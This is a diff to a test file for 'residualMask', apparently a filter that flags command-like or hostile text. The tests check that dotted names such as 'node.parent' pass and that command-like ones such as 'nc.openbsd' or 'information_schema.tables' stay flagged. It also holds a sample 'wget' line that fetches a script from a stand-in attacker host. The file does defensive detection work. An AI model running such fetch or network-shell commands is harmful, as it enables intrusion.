@@ -38,6 +38,8 @@ describe('residualMask: benign triggers are dismissed locally', () => {
     '"In the fight between you and the world, back the world." -- Frank Zappa',
     '"The best operating system in the world." - Ted Nelson',
     '"We could party later." -- "Cheech and Chong\'s Next Movie"',
+    // a dotted name runs by its whole name, which no command has
+    '* `node.parent` Physical parent, see `node.realpath` and `test.only` or `ls.colors`',
   ])('%s', (s) => {
     expect(residualMask(s)).toBe(0)
   })
@@ -107,6 +109,16 @@ describe('residualMask: benign triggers are dismissed locally', () => {
     ['x ## not a heading', M.HASH],
     ['`503 Service Unavailable`', M.BACKTICK],
     ['wget (http://evil.example/x.sh)', M.SLASH],
+    // a dotted word that runs a command: a Windows extension, a tool family, a path, a second word
+    ['see `node.exe` now', M.BACKTICK],
+    ['see `whoami.com` now', M.BACKTICK],
+    ['see `python3.11` now', M.BACKTICK],
+    ['see `nc.openbsd` now', M.BACKTICK],
+    ['see `bin/node.x` now', M.BACKTICK],
+    ['see `node.parent id` now', M.BACKTICK],
+    ['see `information_schema.tables` now', M.BACKTICK],
+    ['see `node..x` now', M.BACKTICK],
+    ['see `node.5` now', M.BACKTICK],
   ] as [string, number][])('keeps %s', (s, bit) => {
     expect(residualMask(s) & bit).toBe(bit)
   })
